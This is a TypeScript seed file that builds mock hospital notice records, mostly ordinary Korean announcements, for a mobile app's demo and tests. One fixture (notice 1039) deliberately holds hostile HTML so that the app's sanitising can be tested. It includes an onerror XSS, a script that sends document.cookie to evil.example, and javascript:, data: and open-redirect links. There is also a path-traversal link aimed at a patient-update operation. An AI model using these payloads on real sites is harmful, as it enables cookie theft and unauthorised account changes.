import type { Faker } from '@faker-js/faker'
import type { WorldBuilder } from '../world-builder'

interface NoticeSeed {
  uid: number
  title: string
  noticeYn: 'Y' | 'N'
  /** Korea time. */
  updatedAt: string
  paragraphs: string[]
}

/**
 * Notices the demo and tests point at: 1024 is the pinned notice of the contract examples,
 * 1041-1043 were updated this week (new badge; 1042 links a screen of the app, the hospital's web
 * site and a phone number), and 1039 carries a script-injection attempt and links out of the app
 * in its HTML that the app must render harmless.
 */
const FIXED: NoticeSeed[] = [
  {
    uid: 1043,
    title: '본관 지하 주차장 공사에 따른 임시 주차 안내',
    noticeYn: 'Y',
    updatedAt: '2026-11-23T08:30:00+09:00',
    paragraphs: [
      '11월 23일(월)부터 12월 18일(금)까지 본관 지하 2층 주차장 바닥 공사를 합니다.',
      '공사 기간에는 신관 주차장과 제2주차장을 이용해 주세요. 외래 환자 무료 주차 시간(8시간)은 그대로 적용됩니다.',
    ],
  },
  {
    uid: 1042,
    title: '2026-2027 독감 예방접종 안내',
    noticeYn: 'N',
    updatedAt: '2026-11-22T10:00:00+09:00',
    paragraphs: [
      '만 65세 이상 어르신은 무료로 접종할 수 있습니다. 신분증을 지참하고 가정의학과로 오세요.',
      '접종 시간: 평일 오전 9시 ~ 오후 4시 30분',
      // Links as the hospital's editor writes them: a screen of the app, its web site, a phone.
      '<p>접종 예약은 <a href="/outpatient/appointment/step1">앱에서 진료 예약하기</a>, 자세한 안내는 ' +
        '<a href="https://www.hanbit-hospital.kr/notice/flu">병원 누리집</a>, 문의는 ' +
        '<a href="tel:02-2290-8000">02-2290-8000</a></p>',
    ],
  },
  {
    uid: 1041,
    title: '모바일 진료비 수납 서비스 점검 안내 (11월 26일 새벽)',
    noticeYn: 'N',
    updatedAt: '2026-11-22T09:00:00+09:00',
    paragraphs: ['11월 26일(목) 오전 2시부터 4시까지 모바일 수납 서비스를 점검합니다. 점검 중에는 결제할 수 없습니다.'],
  },
  {
    uid: 1024,
    title: '12월 진료 일정 변경 안내',
    noticeYn: 'Y',
    updatedAt: '2026-11-20T14:00:00+09:00',
    paragraphs: [
      '12월 25일(금) 성탄절은 휴진합니다. 응급의료센터는 24시간 운영합니다.',
      '휴진일 예약은 다른 날로 옮겨 드리며, 문자로 안내해 드립니다.',
    ],
  },
  {
    uid: 1039,
    title: '모바일 앱 새 버전 안내',
    noticeYn: 'N',
    updatedAt: '2026-11-13T11:00:00+09:00',
    paragraphs: [
      '앱을 새 버전으로 업데이트하면 가족 계정 전환이 더 빨라집니다.',
      // Pasted from an outside editor with hostile markup: the app must show only the text.
      '<img src="x" onerror="alert(\'xss\')"><script>document.location=\'https://evil.example/?c=\'+document.cookie</script><a href="javascript:alert(1)">업데이트 하러 가기</a>',
      // Links that would leave the app inside its WebView, or call another operation.
      '<p><a href="http://evil.example/update">새 버전 받기</a> <a href="/\\evil.example/app">설치 안내</a> ' +
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">설명서</a> ' +
        '<a href="/outpatient/result/..%2F..%2F..%2Fusers%2FupdatePatient%2F10000001%2F01099998888%3F/20261101/20261101">검사결과</a></p>',
    ],
  },
]

const GENERAL_TITLES = [
  '외래 진료시간 안내',
  '진료비 하이패스 서비스 시작',
  '입원 환자 면회 제한 안내',
  '의료진 변경 안내',
  '건강강좌: 겨울철 심뇌혈관질환 예방',
  '개인정보 처리방침 개정 안내',
  '장례식장 이용 안내',
  '실손보험 간편청구 서비스 안내',
  '주말 응급의료센터 운영 안내',
  '무인 수납기 위치 변경 안내',
  '증명서 발급 창구 운영 시간 변경',
  '검진센터 예약 전화 운영 시간 안내',
  '병동 보호자 출입증 발급 안내',
  '여름철 냉방 운영 안내',
  '외래 약 처방 원외처방 전환 안내',
  '의료사회복지 상담 안내',
]

export function seedNotices(world: WorldBuilder, faker: Faker): void {
  const notices = [...FIXED]
  GENERAL_TITLES.forEach((title, i) => {
    const day = String(1 + ((i * 7) % 28)).padStart(2, '0')
    const month = String(10 - Math.floor(i / 3)).padStart(2, '0')
    notices.push({
      uid: 1000 + i,
      title,
      noticeYn: i % 7 === 0 ? 'Y' : 'N',
      updatedAt: `2026-${month}-${day}T10:00:00+09:00`,
      paragraphs: [
        faker.helpers.arrayElement(['자세한 내용은 아래를 확인해 주세요.', '이용에 참고해 주세요.']),
        `${title}에 관한 안내입니다.`,
      ],
    })
  })
  for (const n of notices) {
    world.add('notices', {
      uid: n.uid,
      title: n.title,
      noticeYn: n.noticeYn,
      updateDate: n.updatedAt,
      contents: n.paragraphs.map((p) => (p.startsWith('<') ? p : `<p>${p}</p>`)).join(''),
      writer: faker.helpers.arrayElement(['홍보팀', '원무팀', '의료정보팀', '간호부']),
      viewCount: faker.number.int({ min: 40, max: 2400 }),
    })
  }
}
